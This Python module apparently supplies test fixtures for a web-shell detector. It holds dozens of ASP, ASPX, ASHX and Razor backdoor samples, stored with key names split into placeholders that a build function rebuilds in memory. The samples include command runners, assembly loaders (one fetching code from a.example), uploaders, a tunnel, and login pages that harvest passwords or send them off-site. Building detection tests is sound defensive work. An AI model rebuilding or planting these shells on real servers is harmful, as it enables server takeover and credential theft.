"""Inert pieces of pages, put together in memory by the tests.

No file here or on disk holds a page that would work: names that matter are placeholders, and what they
stand for is itself in two halves. ``build`` puts them in.
"""

from __future__ import annotations

_WORDS = {
    "«E»": ("ev", "al"),
    "«R»": ("Req", "uest"),
    "«P»": ("Pro", "cess"),
    "«A»": ("Assem", "bly"),
    "«L»": ("Lo", "ad"),
    "«S»": ("WScript", ".Shell"),
    "«X»": ("Exe", "cute"),
    "«B»": ("FromBase", "64String"),
    "«C»": ("Create", "Object"),
    "«I»": ("CreateIn", "stance"),
    "«D»": ("Transform", "FinalBlock"),
    "«J»": ("JS", "cript"),
    "«U»": ("un", "safe"),
    "«F»": ("Fi", "le"),
    "«V»": ("Virtual", "Alloc"),
}


def build(text: str) -> str:
    """Put the words in."""
    for mark, halves in _WORDS.items():
        text = text.replace(mark, "".join(halves))
    return text


def word(mark: str) -> str:
    """Return what one placeholder stands for."""
    return build(mark)


CS = '<%@ Page Language="C#" %>'
JS = '<%@ Page Language="«J»" %>'
VB = '<%@ Page Language="VB" %>'
HANDLER = '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext context) { '
ENDS = " } public bool IsReusable { get { return false; } } }"

FORMS: dict[str, tuple[str, str]] = {
    # name: (path, page)
    "one line, JScript": ("a.aspx", JS + '<%«E»(«R».Item["k"],"«U»");%>'),
    "one line, JScript, decoded": (
        "a.aspx",
        JS
        + '<%«E»(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.«B»(«R».Item["k"])),"«U»");%>',
    ),
    "script block, JScript": (
        "a.aspx",
        '<script language="«J»" runat="server">function Page_Load(){«E»(«R»["k"],"«U»");}</script>',
    ),
    "script block through a variable": (
        "a.aspx",
        '<script runat=server language=«J»>function Page_Load(){var k = «R».Form["k"]; var q = k; «E»(q, "«U»");}</script>',
    ),
    "nested eval": ("a.aspx", JS + '<%«E»(«E»("«R».Item[\'k\']"),"«U»");%>'),
    "classic, brackets": ("a.asp", '<%«E»(«R»("k"))%>'),
    "classic, statement": ("a.asp", '<%«X» «R»("k")%>'),
    "classic, global": ("a.asp", '<%«X»Global «R»("k")%>'),
    "classic, variable": ("a.asp", '<%\nDim k\nk = «R».Form("k")\nIf k <> "" Then «X»(k)\n%>'),
    "program, C#, control": (
        "a.aspx",
        CS
        + """<script runat="server">
string Ask(string a) { ProcessStartInfo p = new ProcessStartInfo(); p.FileName = "cmd.exe"; p.Arguments = "/c " + a;
p.RedirectStandardOutput = true; p.UseShellExecute = false; «P» q = «P».Start(p); return q.StandardOutput.ReadToEnd(); }
void Go(object s, EventArgs e) { Response.Write(Ask(box.Text)); }
</script><form runat=server><asp:TextBox id="box" runat="server" /><asp:Button OnClick="Go" runat="server"/></form>""",
    ),
    "program, C#, query": (
        "a.aspx",
        CS
        + '<% var p = new System.Diagnostics.«P»(); p.StartInfo.FileName = «R».QueryString["f"]; p.StartInfo.Arguments = «R»["a"]; p.Start(); %>',
    ),
    "program, VB": (
        "a.aspx",
        VB
        + '<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\nDim p As New System.Diagnostics.«P»()\np.StartInfo.FileName = "cmd.exe"\np.StartInfo.Arguments = "/c " & «R»("a")\np.Start()\nEnd Sub\n</script>',
    ),
    "program, VB Shell": ("a.aspx", VB + '<%\nDim r = Shell(«R».Form("a"), 0)\n%>'),
    "program, COM": (
        "a.asp",
        '<%\nSet w = Server.«C»("«S»")\nSet x = w.exec("cmd /c " & «R»("a"))\nResponse.Write x.StdOut.ReadAll\n%>',
    ),
    "program, object tag": (
        "a.asp",
        '<object runat=server id=w classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><%=w.exec(«R»("a")).StdOut.ReadAll%>',
    ),
    "program, WMI": (
        "a.aspx",
        CS
        + '<% var m = new ManagementClass("Win32_«P»"); m.InvokeMethod("Create", new object[] { «R»["a"], null, null, 0 }); %>',
    ),
    "program, PowerShell": (
        "a.aspx",
        CS
        + '<% using (var p = PowerShell.Create()) { p.AddScript(«R».Form["a"]); foreach (var o in p.Invoke()) Response.Write(o); } %>',
    ),
    "handler with a program": (
        "a.ashx",
        HANDLER
        + 'string a = context.«R».Params["a"]; context.Response.Write(«P».Start("cmd.exe", "/c " + a)); '
        + ENDS,
    ),
    "web method with a program": (
        "a.asmx",
        '<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services; public class S : WebService { [WebMethod] public string Do(string a) { var p = new «P»(); p.StartInfo = new ProcessStartInfo("cmd.exe", "/c " + a); p.Start(); return ""; } }',
    ),
    "Razor with a program": (
        "a.cshtml",
        '@{ var a = «R»["a"]; System.Diagnostics.«P».Start("cmd.exe", "/c " + a); }',
    ),
    "loader, query": (
        "a.aspx",
        CS + '<% System.Reflection.«A».«L»(Convert.«B»(«R»["k"])).«I»("U").Equals(this); %>',
    ),
    "loader, enciphered body": (
        "a.aspx",
        CS
        + '<% byte[] k = System.Text.Encoding.Default.GetBytes("0123456789abcdef"), c = «R».BinaryRead(«R».ContentLength); System.Reflection.«A».«L»(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).«D»(c, 0, c.Length)).«I»("U").Equals(this); %>',
    ),
    "loader, kept in the session": (
        "a.aspx",
        CS
        + """<% byte[] d = Convert.«B»(Context.«R»["k"]); d = new RijndaelManaged().CreateDecryptor(K, K).«D»(d, 0, d.Length);
if (Context.Session["p"] == null) { Context.Session["p"] = («A»)typeof(«A»).GetMethod("«L»", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); }
else { object o = ((«A»)Context.Session["p"]).«I»("LY"); o.Equals(Context); } %>""",
    ),
    "loader, handler and stream": (
        "a.ashx",
        HANDLER
        + "var m = new MemoryStream(); context.«R».InputStream.CopyTo(m); byte[] b = m.ToArray(); for (int i = 0; i < b.Length; i++) b[i] ^= 7; AppDomain.CurrentDomain.«L»(b).EntryPoint.Invoke(null, null);"
        + ENDS,
    ),
    "loader, fetched": (
        "a.aspx",
        CS
        + '<% var w = new System.Net.WebClient(); var b = w.DownloadData("http://a.example/b"); System.Reflection.«A».«L»(b).EntryPoint.Invoke(null, null); %>',
    ),
    "compiler": (
        "a.aspx",
        CS
        + '<% var c = new Microsoft.CSharp.CSharpCodeProvider(); var r = c.Compile«A»FromSource(new CompilerParameters(), «R».Form["s"]); r.Compiled«A».«I»("X"); %>',
    ),
    "evaluator of JScript out of C#": (
        "a.aspx",
        CS
        + '<% Microsoft.«J».«E».«J»«E»uate(«R».Form["k"], Microsoft.«J».Vsa.VsaEngine.CreateEngine()); %>'.replace(
            "«E»uate", "Evaluate"
        ),
    ),
    "stylesheet": (
        "a.aspx",
        CS
        + '<% var d = new XmlDocument(); d.LoadXml(Encoding.UTF8.GetString(Convert.«B»(«R».Form["k"]))); var x = new XslCompiledTransform(); x.«L»(d, XsltSettings.TrustedXslt, new XmlUrlResolver()); x.Transform(d, null, new MemoryStream()); %>',
    ),
    "script in a stylesheet": (
        "a.xslt",
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt"><msxsl:script language="C#" implements-prefix="u"><![CDATA[ public string x() { System.Diagnostics.«P».Start("cmd.exe", "/c whoami"); return ""; } ]]></msxsl:script></xsl:stylesheet>',
    ),
    "uploader, text": ("a.aspx", CS + '<% System.IO.«F».WriteAllText(«R»["p"], «R»["c"]); %>'),
    "uploader, bytes": (
        "a.aspx",
        CS + '<% System.IO.«F».WriteAllBytes(Server.MapPath(«R»["p"]), Convert.«B»(«R»["c"])); %>',
    ),
    "uploader, posted file": (
        "a.ashx",
        HANDLER + 'context.«R».Files[0].SaveAs(context.«R»["p"]);' + ENDS,
    ),
    "uploader, classic": (
        "a.asp",
        '<%\nSet f = Server.«C»("Scripting.«F»SystemObject")\nSet t = f.CreateText«F»(«R»("p"), True)\nt.Write «R»("c")\nt.Close\n%>',
    ),
    "uploader of a page": (
        "a.aspx",
        CS + '<% System.IO.«F».WriteAllText(Server.MapPath("x.aspx"), «R»["c"]); %>',
    ),
    "file manager": (
        "a.aspx",
        CS
        + """<script runat=server>
void Page_Load(object s, EventArgs e) { string p = «R»["p"];
foreach (var d in System.IO.DriveInfo.GetDrives()) Response.Write(d.Name);
foreach (var f in System.IO.Directory.GetFiles(p)) Response.Write(f);
if («R»["a"] == "get") Response.Write(System.IO.«F».ReadAllText(p));
if («R»["a"] == "del") System.IO.«F».Delete(p);
if («R»["a"] == "put") System.IO.«F».WriteAllText(p, «R»["c"]);
if («R»["a"] == "time") System.IO.«F».SetLastWriteTime(p, DateTime.Parse(«R»["t"])); }
</script>""",
    ),
    "tunnel": (
        "a.ashx",
        HANDLER
        + """ var r = context.«R»; string cmd = r.QueryString["cmd"];
if (cmd == "connect") { string t = r.Headers["X-TARGET"]; int q = int.Parse(r.Headers["X-PORT"]); var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
s.Connect(new IPEndPoint(IPAddress.Parse(t), q)); context.Session["s"] = s; }
else { var s = (Socket)context.Session["s"]; byte[] b = new byte[r.ContentLength]; r.InputStream.Read(b, 0, b.Length); s.Send(b); }"""
        + ENDS,
    ),
    "SQL console": (
        "a.aspx",
        CS
        + '<% var c = new SqlConnection(«R»["conn"]); c.Open(); var q = new SqlCommand(«R»["sql"], c); q.ExecuteNonQuery(); %>',
    ),
    "machine code": (
        "a.aspx",
        CS
        + '<script runat=server>[DllImport("kernel32")] static extern IntPtr «V»(IntPtr a, UIntPtr b, int c, IntPtr d); [DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr b, IntPtr c, IntPtr d, int e, ref IntPtr f); void Page_Load(object s, EventArgs e) { byte[] x = new byte[4] { 0, 0, 0, 0 }; IntPtr h = «V»(IntPtr.Zero, (UIntPtr)x.Length, 0, IntPtr.Zero); Marshal.Copy(x, 0, h, x.Length); CreateThread(IntPtr.Zero, UIntPtr.Zero, h, IntPtr.Zero, 0, ref z); }</script>',
    ),
    "deserialiser": (
        "a.aspx",
        CS + '<% new LosFormatter().Deserialize(«R».Form["k"]); %>',
    ),
    "reflection only": (
        "a.aspx",
        CS
        + '<% typeof(System.Diagnostics.«P»).GetMethod("Start", new Type[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", «R»["a"] }); %>',
    ),
    "passwords to a file": (
        "logon.aspx",
        CS
        + '<% System.IO.«F».AppendAllText("C:\\\\t\\\\l.txt", «R».Form["username"] + ":" + «R».Form["password"]); %>',
    ),
    "passwords sent away by script": (
        "flogon.js",
        'function clkLgn() { var p = gbid("password").value; var u = gbid("username").value; var x = new XMLHttpRequest(); x.open("GET", "/owa/auth/x.aspx?u=" + u + "&p=" + p, true); x.send(); }',
    ),
    "passwords in a picture's address": (
        "logon.aspx",
        '<html><input type="password" id="password"><script>function go(){ var d = document.getElementById("password").value; new Image().src = "//a.example/i.gif?" + encodeURIComponent(d); }</script></html>',
    ),
    "property sheet": (
        "a.aspx",
        'Name                            : OAB (Default Web Site)\nPollInterval                    : 480\nOfflineAddressBooks             : \nRequireSSL                      : True\nMetabasePath                    : IIS://s.example/W3SVC/1/ROOT/OAB\nPath                            : C:\\x\nInternalUrl                     : https://s.example/OAB\nExternalUrl                     : http://f/<script language="«J»" runat="server">function Page_Load(){«E»(«R»["k"],"«U»");}</script>\nServer                          : S\nAdminDisplayName                : \nGuid                            : 0\nIdentity                        : S\\OAB\n',
    ),
    "hook": (
        "a.aspx",
        CS
        + '<% typeof(System.Web.Hosting.HostingEnvironment).GetMethod("RegisterVirtualPathProviderInternal", BindingFlags.Static | BindingFlags.NonPublic).Invoke(null, new object[] { new P() }); System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new P()); %>',
    ),
    "downloader": (
        "a.aspx",
        CS + '<% new System.Net.WebClient().Download«F»(«R»["u"], «R»["p"]); %>',
    ),
}

MORE: list[tuple[str, str]] = [
    (
        "a.asp",
        '<%if «R»("k")<>"" then session("k")=«R»("k"):end if:if session("k")<>"" then «X» session("k")%>',
    ),
    (
        "a.asp",
        '<%«E»""&("e"&"v"&"a"&"l"&"("&"r"&"e"&"q"&"u"&"e"&"s"&"t"&"("&"0"&"-"&"2"&"-"&"5"&")"&")")%>',
    ),
    ("a.asp", '<%Y=«R»("k")%> <%«X»(Y)%>'),
    ("a.asp", '<%«E»(«E»(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))("k"))%>'),
    (
        "a.asp",
        '<%\nSet o = Server.«C»("ScriptControl")\no.language = "vbscript"\no.AddObject "Response", Response\no.«X»Statement(«R»("k"))\n%>',
    ),
    (
        "a.asp",
        '<%\nClass c\nPrivate Sub Class_Initialize\n«X» «R»("k")\nEnd Sub\nEnd Class\nSet x = New c\n%>',
    ),
    ("a.asp", '<%\nWith «R»\n«X»(.Form("k"))\nEnd With\n%>'),
    ("a.asp", '<%@ Language="«J»" %><% «E»(«R».Form("k")+""); %>'),
    (
        "a.asp",
        '<script language="vbscript" runat="server">\nIf «R»("k")<>"" Then «X»(«R»("k"))\n</script>',
    ),
    (
        "a.asp",
        '<%\nFunction d(s)\nDim i\nFor i = 1 To Len(s) Step 2\nd = d & Chr("&H" & Mid(s, i, 2))\nNext\nEnd Function\n«X»(d(«R»("k")))\n%>',
    ),
    (
        "a.asmx",
        '<%@ WebService Language="«J»" class="c"%>\nimport System; import System.Web.Services;\npublic class c extends WebService { WebMethodAttribute public function y(z : String) : String { return «E»(z, "«U»"); } }',
    ),
    (
        "a.svc",
        '<%@ ServiceHost Language="C#" Service="S" %>\n[ServiceContract] public interface I { [OperationContract] string X(string c); } public class S : I { public string X(string c) { var p = new «P»(); p.StartInfo.Arguments = "/c " + c; p.Start(); return ""; } }',
    ),
    (
        "a.aspx",
        CS
        + '<script runat=server>protected void b_Click(object s, EventArgs e) { «P» q = new «P»(); q.StartInfo.FileName = kusi.Value; q.StartInfo.Arguments = bkcm.Value; q.Start(); }</script><input id="kusi" runat="server" type="text"/><input id="bkcm" runat="server" />',
    ),
    (
        "a.aspx",
        CS
        + '<script runat=server>class Ex { public static string Run(string c) { var i = new ProcessStartInfo("cmd.exe", string.Format("/c {0}", c)); return «P».Start(i).StandardOutput.ReadToEnd(); } }\nvoid Page_Load(object s, EventArgs e) { var c = «R».Cookies["c"]; if (c != null) Response.Write(Ex.Run(Encoding.UTF8.GetString(Convert.«B»(c.Value)))); }</script>',
    ),
    (
        "a.aspx",
        CS
        + '<script runat=server>string Cmd { get { return «R».Headers["X-C"]; } }\nvoid Page_Load(object s, EventArgs e) { «P».Start("cmd", Cmd); }</script>',
    ),
    (
        "a.aspx",
        CS
        + "<% foreach (string k in «R».Form.AllKeys) { var p = new ProcessStartInfo(k); «P».Start(p); } %>",
    ),
    (
        "a.aspx",
        CS
        + '<% var x = new XmlDocument(); x.«L»(«R».InputStream); var n = x.SelectSingleNode("//c").InnerText; «P».Start(n); %>',
    ),
    (
        "a.aspx",
        CS + '<% dynamic s = Activator.«I»(Type.GetTypeFromProgID("«S»")); s.Run(«R»["c"]); %>',
    ),
    (
        "a.aspx",
        CS
        + '<% var d = new System.Web.Script.Serialization.JavaScriptSerializer().Deserialize<Dictionary<string,string>>(new StreamReader(«R».InputStream).ReadToEnd()); «P».Start(d["c"], d["a"]); %>',
    ),
    (
        "a.aspx",
        CS
        + '<% byte[] b = new byte[«R».InputStream.Length]; «R».InputStream.Read(b, 0, b.Length); for (int i = 0; i < b.Length; i++) b[i] = (byte)(b[i] ^ 0x55); «A».«L»(b).GetTypes()[0].GetMethod("x").Invoke(null, new object[]{Context}); %>',
    ),
    (
        "a.aspx",
        CS
        + '<script runat=server>byte[] H(string s) { var r = new byte[s.Length / 2]; for (int i = 0; i < r.Length; i++) r[i] = Convert.ToByte(s.Substring(i * 2, 2), 16); return r; }\nvoid Page_Load(object s, EventArgs e) { «A».«L»(H(«R»["k"])).«I»("X"); }</script>',
    ),
    ("a.aspx", CS + '<% var f = «R».Files["f"]; f.SaveAs(Path.Combine(«R»["d"], f.FileName)); %>'),
    (
        "a.aspx",
        CS
        + '<% var fs = System.IO.«F».Create(«R»["p"]); byte[] b = Convert.«B»(«R»["c"]); fs.Write(b, 0, b.Length); fs.Close(); %>',
    ),
    (
        "a.aspx",
        VB
        + '<script runat="server">\nFunction Ask(ByVal c As String) As String\nDim i As New ProcessStartInfo("cmd.exe", "/c " & c)\nDim p = «P».Start(i)\nReturn p.StandardOutput.ReadToEnd()\nEnd Function\nSub Go(ByVal s As Object, ByVal e As EventArgs) Handles b.Click\no.Text = Ask(t.Text)\nEnd Sub\n</script><asp:TextBox id=t runat=server/>',
    ),
    ("a.aspx", VB + '<%\nDim w = «C»("«S»")\nw.Run("cmd /c " & «R».Form("c"), 0, True)\n%>'),
    ("a.aspx", VB + '<%\nSystem.Reflection.«A».«L»(Convert.«B»(«R»("k"))).«I»("X")\n%>'),
    (
        "a.aspx",
        CS
        + "<% new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize(«R».InputStream); %>",
    ),
    (
        "a.aspx",
        CS
        + '<% using (var r = RunspaceFactory.CreateRunspace()) { r.Open(); var p = r.CreatePipeline(); p.Commands.AddScript(«R»["c"]); p.Invoke(); } %>',
    ),
    (
        "a.aspx",
        CS
        + '<%@ Import Namespace="System.Diagnostics" %><% using P = System.Diagnostics.«P»; P.Start(«R»["c"]); %>',
    ),
    (
        "a.aspx",
        CS
        + '<% Func<byte[], System.Reflection.«A»> f = System.Reflection.«A».«L»; var a = f(Convert.«B»(«R»["k"])); a.EntryPoint.Invoke(null, null); %>',
    ),
    ("a.aspx", JS + '<% var f = «E»; f(«R»["k"]); %>'),
    ("a.aspx", JS + '<% var a = «R».Item["k"]; var b; «E»(b = a, "«U»"); %>'),
    ("a.aspx", JS + '<% new Function(«R»["k"])(); %>'),
    (
        "a.aspx",
        JS
        + '<% var s = new ActiveXObject("Shell.Application"); s.ShellExecute("cmd.exe", «R»["c"], "", "open", 0); %>',
    ),
    (
        "a.aspx",
        '<script runat="server" language="«J»">function Page_Load(sender, e){ var x = Context["Requ"+"est"]["k"]; «E»(x, "«U»"); }</script>',
    ),
    (
        "a.aspx",
        CS
        + '<% System.Web.HttpContext.Current.GetType().GetProperty("«R»").GetValue(Context, null); var r = (HttpRequest)Context.GetType().GetProperty("«R»").GetValue(Context, null); «P».Start(r["c"]); %>',
    ),
    (
        "a.cshtml",
        '@using System.Diagnostics\n@functions { string Go(string c) { return «P».Start("cmd", "/c " + c).StandardOutput.ReadToEnd(); } }\n<p>@Go(«R».Form["c"])</p>',
    ),
    ("a.cshtml", '@if (IsPost) { System.IO.«F».WriteAllText(«R»["p"], «R»["c"]); }'),
    (
        "global.asax",
        '<%@ Application Language="C#" %><script runat="server">void Application_BeginRequest(object s, EventArgs e) { var k = «R».Headers["X"]; if (k != null) { «P».Start("cmd.exe", "/c " + k); } }</script>',
    ),
    (
        "a.aspx",
        CS
        + '<% System.Threading.ThreadPool.QueueUserWorkItem(_ => { «P».Start("cmd.exe", "/c " + «R»["c"]); }); %>',
    ),
    (
        "a.aspx",
        CS
        + '<% new System.Threading.Thread(() => Run(«R»["c"])).Start(); %><script runat=server>void Run(string c) { «P».Start(c); }</script>',
    ),
    (
        "a.ashx",
        HANDLER
        + "var d = new Dictionary<string, Socket>(); var r = context.«R»; var h = r.Headers[\"T\"].Split(':'); var c = new TcpClient(h[0], int.Parse(h[1])); var n = c.GetStream(); byte[] b = new byte[4096]; int k; while ((k = r.InputStream.Read(b, 0, 4096)) > 0) n.Write(b, 0, k);"
        + ENDS,
    ),
    (
        "a.aspx",
        CS
        + '<% var mi = typeof(System.Reflection.«A»).GetMethods().First(m => m.Name == "«L»"); mi.Invoke(null, new object[] { Convert.«B»(«R»["k"]) }); %>',
    ),
    ("a.aspx", '<%@ Page Language="cs" %><% \\u0050rocess.Start(\\u0052equest["q"]); %>'),
    (
        "a.aspx",
        CS
        + '<%-- innocent comment --%><% var z = "'
        + '«P»"; Type.GetType("System.Diagnostics." + z + ", System").GetMethod("Start", new[]{typeof(string)}).Invoke(null, new[]{«R»["a"]}); %>',
    ),
    (
        "a.aspx",
        CS
        + '<script runat=server>delegate string G(string c); string X(string c) { return «P».Start("cmd", "/c " + c).ToString(); } void Page_Load(object s, EventArgs e) { G g = X; Response.Write(g(«R»["c"])); }</script>',
    ),
    (
        "a.aspx",
        CS
        + '<script runat=server>delegate void G(string c); void X(string c) { «P».Start(c); } void Page_Load(object s, EventArgs e) { var g = new G(X); g.Invoke(«R»["c"]); }</script>',
    ),
    ("a.aspx", CS + '<% Action<string> go = z => «P».Start(z); go(«R»["c"]); %>'),
    (
        "a.aspx",
        CS
        + '<% Func<string, int, object> go = (a, b) => { return «P».Start("cmd", a); }; go(«R»["c"], 1); %>',
    ),
    ("a.aspx", JS + '<% var f = function(a) { «E»(a, "«U»"); }; f(«R».Item["k"]); %>'),
]
